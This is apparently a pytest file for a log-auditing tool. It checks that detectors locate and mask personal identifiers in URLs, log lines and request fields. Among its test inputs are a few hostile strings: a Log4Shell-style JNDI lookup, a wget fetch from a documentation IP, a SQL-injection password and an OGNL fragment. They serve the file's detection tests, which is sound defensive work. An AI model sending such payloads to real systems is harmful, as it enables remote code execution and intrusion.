"""One table a type: values in which it must be found, with the span, and values that must be left alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from chlogaudit.detect import find, find_free, mask
from chlogaudit.detect.registry import DETECTORS
from chlogaudit.model.finding import IdType
from chlogaudit.model.format import Holds

# The identifier stands between « and »; what is not marked must not be found.
FOUND: dict[IdType, tuple[str, ...]] = {
    IdType.EMAIL: (
        "/a?email=«jane%40example.com»", "/a?x=«%6aane@example.org»&y=1", "/a?next=%2Fb%3Fm%3D«jane%2540example.com»", "/inbox/«jane@example.com»/1",
        "/a?x=«amFuZUBleGFtcGxlLmNvbQ==»", "/a?u=«jane+news@example.com»&email=«a+b@example.net»", "/a?x=«jane\\x40example.org»", "/a?x=«jane\\u0040example.org»",
        "/a?q=mail+to+«jane@example.org»+now",
    ),
    IdType.PHONE: (
        "/a?tel=«%2B4915112345678»", "/a?mobil=«0151+123+456-78»", "/sms/send?to=«%2B34612345678»", "/call?nr=«0612345678»", "/a?q=ring+«%2B44+20+7946+0958»",
        "/a?o=%7B%22tel%22%3A%22«%2B4721234567»%22%7D", "/wa.me/«4915112345678»", "/a?telefon_privat=«0711+445566»", "/a?u=https%3A%2F%2Fwa.me%2F«4915198760000»", "/a?phone_2=«0301234567»",
        "/a?handy_geschaeftlich=«0151+2345678»", "/a?notfalltelefon=«0711+998877»",
        "/a?festnetz=«030+2345678»",
        "/a?tel_trabajo=«912345678»",
        "/v2/outbox?to=«33698765432»&body=hi",
    ),
    IdType.PAYMENT_CARD: (
        "/pay?cc=«4111-1111-1111-1111»", "/pay?number=«4111111111111111»", "/pay?x=«5500+0000+0000+0004»", "/pay?pan=«371449635398431»", "/pay/«4111-1111-1111-1111»/x",
    ),
    IdType.IBAN: ("/a?iban=«DE89370400440532013000»", "/a?x=«DE89+3704+0044+0532+0130+00»", "/a?acct=«BE68539007547034»", "/from/«GB29NWBK60161331926819»"),
    IdType.NAME: (
        "/a?vorname=«Anna»&nachname=«M%C3%BCller»", "/a?name=«Jane+Doe»", "/cv/CV_«Jane_Doe».pdf", "/a/Forum_«JaneDoe».pdf", "/a/198-«JANE%20DOE».pdf",
        "/s?q=«petra+neumann»+zahnarzt", "/f?entry.123=«Jane+Doe»", "/a?first=«Jane»&last=«Doe»", "/a?n=«Zo\\xc3\\xab+van+Dijk»", "/f?x=«Petra+Vogelsang»", "/f?a%5Bperson-3%5D%5Bname%5D=«Nirmala+Devarajan»",
        "/reise?mitreisender2_nachname=«Obermaier»&passagier3_vorname=«Ulf»", "/fhir/Person?family=«Adeyemi»", "/f?vn=«Gudrun»&nn=«Achleitner»", "/form?input_2.3=«Swantje»", "/s?q=«swantje+brodersen»+kiel",
        "/telefonbuch/suche?name=«Haberland»", "/f?first=«Ulla»&dob=1950-01-01",
        "/a?antragstellerin=«Zorica+Petkovic»", "/a?kindvorname=«Mila»",
        "/a?vorname_kind=«Mila»",
        "/a?fahrzeughalterin=«Annika+Dressler»", "/a?zeuge=«Mehmet+Aksoy»",
        "/find/firstname/«Zorica»/lastname/«Okwuosa»", "/a?u=https%3A%2F%2Fb.example%2F%3Ffullname%3D«Ulrike%2520Hofmann»",
    ),
    IdType.POSTAL_ADDRESS: ("/a?addr=«Hauptstr.+5»", "/a?street=«12+Elm+Street»", "/maps?q=«10+Downing+Street»+London", "/a?rue=«15+Rue+de+la+Paix»",
        "/s?q=«7+rue+Jules+Verne»",
        "/geo/street/«Amselweg%204»/x",
    ),
    IdType.POSTCODE: ("/a?plz=«10115»", "/a?postcode=«SW1A%201AA»", "/a?pc=«1016+GV»", "/a?kod=«31-147»", "/a?cp=«69006»",
        "/a?plz_wohnort=«04109»", "/a?lieferplz=«50667»",
        "/filialen/plz/«04109»/umkreis/5",
    ),
    IdType.GEO: (
        "/a?lat=«52.5200»&lon=«13.4050»", "/a?near=«55.9533,-3.1883»", "/maps/@«48.8584,2.2945»,17z", "/a?from=«60.1699%2C24.9384»&to=x", "/weather/«52.52»/«13.405»",
    ),
    IdType.SESSION_ID: (
        "/a?PHPSESSID=«abc123def456ghi789»", "/a.jsp;jsessionid=«1E2D3C4B5A69788796A5B4C3D2E1F001»?x=1", "/cpsess«7719203344»/x", "/(S(«q3hbr2kfzn0fjsd1ocz2rkyk»))/x",
        "/f?sid=«0123456789abcdef0123456789abcdef»",
    ),
    IdType.DEVICE_ID: (
        "/a?idfa=«6D92078A-8246-4BA4-AE5B-76104861E7DC»", "/a?mac=«a0:20:a6:1b:2c:3d»", "/collect?cid=«998877665.1711900000»", "/fcm/register?token=«bk3RNwTe3H0:CI2k_HHwgIpoDKCI»",
        "/devices/«3c71bfaa0102»/state", "/a?_ga=«GA1.2.1234567890.1711900000»", "/phones/snom-«000413aa0b1c».xml", "/a?uid=«fwAAAWYJFcZ3VwAFAwMDAg==»", "/b?mid=«48810229384756610293847566102938475661»",
        "/api/gateway/«B4E62D01AA17»/on", "/a?whatever=«GA1.1.55667788.1711970000»",
        "/a?vendor_id=«0B1E8400-E29B-41D4-A716-446655440000»",
    ),
    IdType.CLICK_ID: ("/a?gclid=«EAIaIQobChMI9rTzW3vNhQMV»&utm_source=x", "/a?fbclid=«IwAR0abcDEF123»", "/a?mc_eid=«7f3c90b1d2»", "/a?fbc=«fb.1.1711980000123.IwAR2x»", "/a?_branch_match_id=«130448837482»"),
    IdType.TOKEN: (
        "/reset-password/«3f9a8b7c6d5e4f3a2b1c»", "/a?access_token=«abc123def456»", "/invite/accept?code=«INV-7Q2K9X4M»", "/a?x=«ghp_0123456789abcdefghijABCDEFGHIJ01»",
        "/a?x=«eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl»", "/a?password=«hunter2»", "/unsubscribe?u=«9f8e7d6c5b4a»", "/tickets/«TCK-7Q2K9X4M»/view", "/wp-activate-account.php?key=«7be1f0a2c94d5e63»", "/list/double-optin/lid/31/h/«q8w2e7r4t9y1u6i3»", "/shop/checkouts/«5d0c9b8a7f6e4d3c2b1a»/done", "/mytrips/«KZ8Q2R»/seats", "/api/v1/«B7kQ2mZx9LrT4vWn»/attributes", "/api/x?token=«8u%5EqA%29wX2m:1»", "/mot-de-passe-oublie/«a9s8d7f6g5h4»",
        "/gate?door_code=«8841»", "/amt/slot?code=«4KQX-77PL-M2ZD»", "/newsletter/ende?nr=12&h=«8c2d4e6f0a1b3c5d»",
        "/a?guest_wifi_key=«7731904455812066»", "/a?card_pin=«4402»", "/a?aktions_code=«ZX81QL4471»", "/index.php?route=account/recover&eid=«8f6e5d4c3b2a1908»", "/r?buchung=1&confirmation=«62KX19Q»&lastname=Ek", "/a?meinkennwort=«Herbst9»",
        "/feeds/«k2m4x6c8b0p1v8z0».xml", "/a?ticketcode=«QX-9F3Q-22LM»",
        "/a?codice_attivazione=«551204»", "/a?cle_validation=1&code_einladung=«QX81LM»", "/a?pwd_repeat=«Lunga7»", "/umfrage/«p2k9x7m4q1z8w3v6»/start", "/vote/«Xk3LmQ9sT2w»",
        "/transfer?authcode=«pQ7-nL4%24kW9»",
    ),
    IdType.NATIONAL_ID: ("/a?cpf=«529.982.247-25»", "/a?x=«529.982.247-25»", "/a?ssn=«078-05-1120»", "/a?pesel=«44051401359»", "/a?dni=«12345678Z»",
        "/a?cf=«RSSMRA85T10A562S»", "/a?numero_fiscal=«2345678901234»", "/a?driver_licence=«MORGA657054SM9IJ»",
        "/a?reisepass_kennziffer=«C4VK8812T»", "/a?idcard_number=«L8801T471»",
        "/check/pesel/«44051401359»",
    ),
    IdType.BIRTH_DATE: ("/a?dob=«1985-07-14»", "/a?geburtsdatum=«14.07.1985»"),
    IdType.VEHICLE_REG: ("/a?kennzeichen=«M-AB+1234»", "/a?vin=«WVWZZZ1JZXW000001»"),
    IdType.ACCOUNT_NO: ("/a?kontonummer=«532013000»", "/a?policy_no=«KV-2026-77123»", "/girokonto/«0532013999»/umsatz", "/vertraege/«KV-2207718»/pdf",
        "/a?vertragskonto_nr=«200412345»", "/vertragskonto/«200498765432»/rate",
        "/kontoauszug/«40478219»/04.pdf",
        "/a?numero_poliza=«88120456»",
        "/bonus/stand?card=«9826144000112»",
    ),
    IdType.IP: (
        "/a?u=http://«192.0.2.7»/x", "/a?ip=«192.0.2.7»%3A8080", "/a?u=//«3221225985»/x", "/a?x=[«2001:db8::5»]", "/a?cmd=wget+http://«198.51.100.9»:80/m", "/whois/«198.51.100.23»",
    ),
    IdType.HOSTNAME_INTERNAL: ("/a?u=http%3A%2F%2F«intranet.corp.local»%2Fwiki", "/a?host=«db01.int.example.net»"),
    IdType.USER: (
        "/users/«benedikt»/billing", "/patients/«884213»/summary", "/dav/calendars/«jdoe»/personal/", "/a?username=«s1049921»", "/a?f=/home/«jane»/x", "/login?user=«admin»&pass=",
        "/a?user=corp%5Cjdoe".replace("corp%5Cjdoe", "«corp%5Cjdoe»"), "/radicale/«petra»/calendar.ics/", "/live/«huber7»/«Zt8kPq»/5521.ts", "/SOGo/dav/«m.klein»/Contacts/", "/a?f=/usr/www/users/«bergwerk»/x.php", "/a?q=assignee+%3D+«t.meyer7»+and+open", "/a?socio_nr=«44120»", "/a?id_adherent=«8812»",
        "/odata/MemberSet('«0044817»')/Card", "/iscritti/«440218»/quote", "/resident/«R-20331»/bills", "/a?socio_num=«4410»",
        "/a?personalnr_intern=7&leserkarten_nr=«44120»", "/a?verein_mitglieder_nummer=«20-4411»", "/index.php?page=users&id=«4412»", "/opac?barcode=«21900441200»&pin=7741", "/a?emp=«m.sato»",
        "/a?nr_pacjenta=«44120»", "/a?id_locataire=«7714»", "/caregivers/«44120»/shifts",
        "/audit?actor=«net_olga»", "/a?matriculation_no=«11802»",
        "/search?base=uid%3D«tgruber»%2Cou%3Dstaff%2Cdc%3Dexample", "/match?spieler=«blitz_otto»",
        "/api/username/«kasante»/posts", "/crm/customer_id/«318»",
    ),
}  # fmt: skip
LEFT_ALONE: dict[IdType, tuple[str, ...]] = {
    IdType.EMAIL: ("/img/logo@2x.png", "/npm/@scope/core@1.2.3", "/lodash@4.17.21/lodash.min.js", "/a?x=(@ognl.OgnlContext@DEFAULT)", "/users/@me", "/a?q=%40import+url",
        "/a?m=foo@bar",
    ),
    IdType.PHONE: ("/a?tel=0", "/a?date=02.04.2026&nr=030-12", "/a?id=03012345678", "/call?ext=4410", "/a?phone=android", "/a?ts=1711900000",
        "/a?phone_type=1234567", "/a?mobile=1",
        "/v2/route?to=33698765432&zoom=3",
    ),
    IdType.PAYMENT_CARD: (
        "/pay?number=4111111111111112", "/pay?card=****+****+****+1881", "/p/4006381333931", "/a?ts=1711900000123456", "/a?lat_x=9.4111111111111111", "/card/4012-8888-8888-1882",
        "/a?ean=4111111111111111",
    ),
    IdType.IBAN: ("/a?ref=BE68539007547035", "/a?x=XX89370400440532013000", "/a?hash=de89370400440532013000aa"),
    IdType.NAME: ("/a?name=main", "/a?name=Header+Logo", "/docs/annual-report.pdf", "/wiki/Isaac_Newton", "/tag/john-steinbeck", "/s?q=best+ramen+recipe", "/a?sort=name", "/s?q=harry+potter+books", "/f?product=Marlene+Trousers", "/f?brand_name=Paul+Smith", "/f?x=Anna+Recipe", "/f?hotel_name=Saint+Martin",
        "/s?q=albert+einstein+schule", "/s?q=bruno+banani+parfum", "/f?produkt_name=Sessel+Ingrid", "/s?q=otto+waalkes+film",
        "/city?name=San+Fernando", "/theme?name=Twenty+Thirteen",
        "/lastname/search", "/vorname/beliebt",
    ),
    IdType.POSTAL_ADDRESS: ("/a?street_view=1", "/a?address_type=billing", "/a?address=0x52908400098527886E0F7030069857D2E4169EE7"),
    IdType.POSTCODE: ("/a?zip=true", "/a?format=zip", "/a?code=10115", "/a?cp=3",
        "/zip/download", "/address/lookup/12",
    ),
    IdType.GEO: ("/stats?from=35.0&to=139.0", "/tiles/7/63/42.png", "/a?price=12.99,49.99", "/a?v=1.234"),
    IdType.SESSION_ID: ("/a?sid=5", "/a?session=spring-2026", "/collect?sid=1711900000", "/a?s=shoes"),
    IdType.DEVICE_ID: ("/articles/38400000-8cf0-11bd-b23e-10b96e40000e", "/a?device=mobile", "/a?mac=true", "/a?t=00:15:30", "/devices/iphone-15", "/assets/vendor-4f2c1b9e12ab.js", "/docs/a-0123456789ab.html",
        "/a?mac=00:00:00:00:00:00", "/g?gid=3407469978336669",
        "/osm/api/0.6/node/1708339188", "/provision/y000000000000.cfg",
        "/a?vendor_id=4410", "/g?uuid=38400000-8cf0-11bd-b23e-10b96e4ef00d",
    ),
    IdType.CLICK_ID: ("/a?utm_id=120205", "/a?mc_cid=55aa", "/a?gad_source=1"),
    IdType.TOKEN: (
        "/a?csrf_token=abcdef0123456789", "/a?state=af0ifjsldkj99", "/reset/password", "/invite/friends", "/a?h=5d41402abc4b2a76b9719d911017c592", "/a?token_type=bearer",
        "/a?password=%27+OR+%271%27%3D%271", "/a?password=****", "/a?key=value", "/tickets/concert-2026", "/confirm/order", "/wp-content/confirm-4f2c1b9e.js", "/checkout/cart/add", "/trips/2026/italy", "/a?token=required", "/wiki/bin/edit/Web/SomeTopic7", "/redir?sign=26bb889243401b16b33056daf68f2074&keyno=0", "/imgres?sig=101761526074844685018", "/a?form_token_id%5B%5D=comment_form",
        "/a?cache_key=5d41402abc4b2a76b971", "/a?sort_code_name=abc", "/a?product_code=AB12CD34EF56", "/a?key_type=rsa2048", "/a?pin_it=1",
        "/rsvp/spring-gala-2026", "/feed/rss2",
        "/a?invite_type=3&verified=1", "/survey/2026/results", "/share/workout-2026-04",
    ),
    IdType.NATIONAL_ID: ("/a?x=529.982.247-26", "/a?isbn=978-3-16-148410-0", "/status/2026-03-11-0042",
        "/a?cf=1234567890",
    ),
    IdType.BIRTH_DATE: ("/a?date=1985-07-14", "/a?dob="),
    IdType.VEHICLE_REG: ("/a?template=AB12CDE", "/a?plate=none"),
    IdType.ACCOUNT_NO: ("/a?account=new", "/order?no=5105-1051-0510", "/konto/2026/01", "/policies/privacy-2026",
        "/game?card=982614400011",
    ),
    IdType.IP: ("/a?ver=11.0.22.7", "/v2/builds/10.0.17.54/log", "/a?x=1.2.3.400", "/a?oid=2.16.840.1", "/a?u=http://127.0.0.1/", "/a?x=cafe:babe::1z", "/a?net=192.0.2.0"),
    IdType.HOSTNAME_INTERNAL: ("/.env.local", "/config.local.php", "/a?u=http://www.example.com/"),
    IdType.USER: ("/users/sign_in", "/user/login", "/users/new", "/account/orders", "/author/admin/", "/a?login=true", "/a?user_type=guest", "/customers/feedback", "/live/hls/1080p/44.ts", "/live/sport/tv2/301.ts", "/a?client_id=8f14e45f",
        "/users/email/x", "/Products('42')/Price", "/app/client/env.mjs", "/personal/.env",
        "/a?person_count=12", "/a?user_status=4", "/a?driver=chrome99", "/index.php?page=articles&id=4412",
        "/username/available", "/userid/new",
    ),
}  # fmt: skip
MESSAGES = (
    "transfer refused: beneficiary «Maria Ioannou» closed her account",
    "driver Mercedes Sprinter is missing",
    "login ok for the night, user succeeded; login «lotte.k» refused",
    "the customer Service Desk was not reached, client Hello Verify missing",
    'user «jane»: authentication failure for "/x": Password Mismatch',
    'user "«jane.doe»" was not found in "/etc/nginx/.htpasswd"',
    "client denied by server configuration: /home/«willow»/public_html/.htaccess",
    "failed to make connection to backend: «erp01.corp.lan»",
    "Key (email)=(«jane@example.com») already exists.",
    "Failing row contains (17, «Jane», «Doe», «jane@example.com», «+49 151 12345678»).",
    "KeyError: {'name': '«Jane Doe»', 'phone': '«+44 20 7946 0958»', 'class': '5b'}",
    'upstream: "http://«10.0.0.5»:8080/users/«jane»"',
    "ModSecurity: Warning at ARGS:phone (Value: `«+1 201 555 0123»') [file \"/etc/x.conf\"]",
    "attempt to connect to «10.4.7.9»:9000 («10.4.7.9») failed",
    "Access denied for user '«blog_ro»'@'«app02»' (using password: YES)",
    "login of «WERK\\tlange» refused",
    "User DN is not known; imap-login: Disconnected (no auth attempts)",
    "File does not exist: /var/www/html/favicon.ico",
    "PHP Notice: Undefined index: user in /var/www/html/index.php on line 12",
    "Apache/2.4.41 (Ubuntu) OpenSSL/1.1.1 configured -- resuming normal operations",
    "script '/var/www/html/wp-login.php' not found or unable to stat",
)  # fmt: skip


def marked(text):
    """The value without its marks, and where the marks stood."""
    spans, plain = [], b""
    for number, piece in enumerate(text.replace("»", "«").split("«")):
        raw = piece.encode()
        if number % 2:
            spans.append((len(plain), len(plain) + len(raw)))
        plain += raw
    return plain, spans


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in FOUND.items() for text in texts])
def test_found_with_its_span(kind, text):
    """The identifier is found where it stands, as written, with its type."""
    value, spans = marked(text)
    found = {(one.start, one.end) for one in find(value, Holds.URL) if one.type is kind}

    assert set(spans) <= found | ({(a, b) for a, b, t in _others(value) if t is not kind} & set(spans))
    assert found & set(spans)


def _others(value):
    return [(one.start, one.end, one.type) for one in find(value, Holds.URL)]


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in LEFT_ALONE.items() for text in texts])
def test_left_alone(kind, text):
    """What only resembles the type is not taken for it."""
    assert kind not in {one.type for one in find(text.encode(), Holds.URL)}


@pytest.mark.parametrize("text", MESSAGES)
def test_messages(text):
    """In an error message exactly the marked identifiers are found."""
    value, spans = marked(text)

    assert [(one.start, one.end) for one in find(value, Holds.MESSAGE)] == spans


@pytest.mark.parametrize(
    ("holds", "value", "spans"),
    [
        (Holds.CLIENT, b"192.0.2.1", [(0, 9)]),
        (Holds.CLIENT, b"192.0.2.1:4711", [(0, 9)]),
        (Holds.CLIENT, b"::ffff:192.0.2.1", [(0, 16)]),
        (Holds.CLIENT, b"fe80::1%eth0", [(0, 12)]),
        (Holds.CLIENT, b"dsl-7.pool.example.net", [(0, 22)]),
        (Holds.CLIENT, b"127.0.0.1", []),
        (Holds.CLIENT, b"-", []),
        (Holds.FORWARDED, b"192.0.2.1, 10.0.0.1:443, unknown", [(0, 9), (11, 19)]),
        (Holds.FORWARDED, b'for="[2001:db8::17]:4711";proto=http', [(6, 18)]),
        (Holds.USER, b"jane", [(0, 4)]),
        (Holds.USER, b"-", []),
        (Holds.SECRET, b"Basic dXNlcjpwYXNz", [(6, 18)]),
        (Holds.COOKIE, b"PHPSESSID=abc123def456; lang=de", [(10, 22)]),
        (Holds.HOST, b"198.51.100.4:8080", [(0, 12)]),
        (Holds.HOST, b"www.example.com", []),
        (Holds.ADDRESS, b"10.0.0.5:80, 10.0.0.6:80", [(0, 8), (13, 21)]),
        (Holds.PORT, b"4711", [(0, 4)]),
        (Holds.STATUS, b"200", []),
        (Holds.USER_AGENT, b"Mozilla/5.0 Chrome/121.0.0.0 Safari/537.36", []),
        (Holds.USER_AGENT, b"FooBot/1.0 (+mailto:bot@example.org)", []),
        (Holds.USER_AGENT, b"${jndi:ldap://192.0.2.7/a}", [(14, 23)]),
        (Holds.REQUEST, b"GET /users/jane HTTP/1.1", [(11, 15)]),
    ],
)
def test_fields(holds, value, spans):
    """Each kind of field is read as what it is."""
    assert [(one.start, one.end) for one in find(value, holds)] == spans


@pytest.mark.parametrize(
    "text",
    [
        '«192.0.2.5» [10/Oct/2023 garbage "GET /x',
        'www.example.com «192.0.2.9» - - [10/Oct/2023:13:55:36 +0000] "GET /?m=«a@example.org» HTTP/1.1" 200 1',
        '«192.0.2.1» - «Jane Doe» [10/Oct/2023:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "Mozilla/5.0 Chrome/121.0.0.0" "«198.51.100.7», «10.0.0.1»"',
        '{"remote_addr":"«192.0.2.4»","user":"«jane»","request":"GET /?sid=«abcdef0123456789» HTTP/1.1","ua":"X/1.2.3.4"}',
        '2023/10/10 13:55:36 [error] 1#1: *5 user "«bob»": password mismatch, client: «203.0.113.5», server: _, request: "GET / HTTP/1.1"',
    ],
)  # fmt: skip
def test_lines_of_unknown_form(text):
    """Lines without a format are read by the form of their pieces."""
    value, spans = marked(text)

    assert [(one.start, one.end) for one in find_free(value)] == spans


@pytest.mark.parametrize(
    ("value", "kind", "shown"),
    [
        (b"jane%40example.com", IdType.EMAIL, "j***@e***.com"),
        (b"4111-1111-1111-1111", IdType.PAYMENT_CARD, "411111******1111"),
        (b"%2B4915112345678", IdType.PHONE, "+49***"),
        (b"hunter2", IdType.TOKEN, "[token]"),
        (b"192.0.2.1", IdType.CLIENT_IP, "[client_ip]"),
        (b"\x1b[31m@\xff.x", IdType.EMAIL, "?***@?***.x"),
    ],
)
def test_masked(value, kind, shown):
    """An example tells the kind and not the person, in plain ASCII."""
    assert mask(value, kind) == shown


def test_every_detector_is_registered_tested_and_documented():
    """One file a type: each is in the list, has both tables and a page."""
    room = Path(__file__).parents[1] / "src" / "chlogaudit" / "detect"
    with_detector = {path.stem for path in room.glob("*.py") if "\nDETECTOR = Detector(" in path.read_text()}
    listed = {detector.type for detector in DETECTORS}
    pages = {path.stem for path in (Path(__file__).parents[1] / "docs" / "detectors").glob("*.md")}

    assert len(with_detector) == len(DETECTORS)
    assert listed | {IdType.POSTCODE} == set(FOUND) == set(LEFT_ALONE)
    assert with_detector <= pages
